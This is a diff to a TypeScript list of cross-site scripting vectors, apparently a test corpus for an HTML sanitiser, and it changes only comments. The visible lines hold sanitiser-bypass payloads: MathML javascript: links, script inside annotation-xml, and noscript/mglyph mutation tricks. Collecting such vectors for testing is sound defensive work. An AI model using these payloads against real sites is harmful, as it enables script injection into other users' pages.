@@ -1,6 +1,6 @@
 /**
- * Ways to run a script in somebody else's page, one of each kind that OWASP's "XSS Filter Evasion Cheat Sheet" and
- * the published bypasses of sanitisers describe: handlers, addresses, foreign content, raw text, mutation, clobbering,
+ * Ways to run a script in another user's page, one of each kind that OWASP's "XSS Filter Evasion Cheat Sheet" and the
+ * published bypasses of sanitisers describe: handlers, addresses, foreign content, raw text, mutation, clobbering,
  * encodings and broken markup.
  */
 export const xssVectors: readonly string[] = [
@@ -66,7 +66,7 @@ export const xssVectors: readonly string[] = [
   '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
   '<math href="javascript:alert(1)">x</math>',
   '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
-  // Mutation: what is harmless when it is read first and not when the result is read again.
+  // Mutation: markup that is harmless when it is read first, and not when the result is read again.
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
   '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
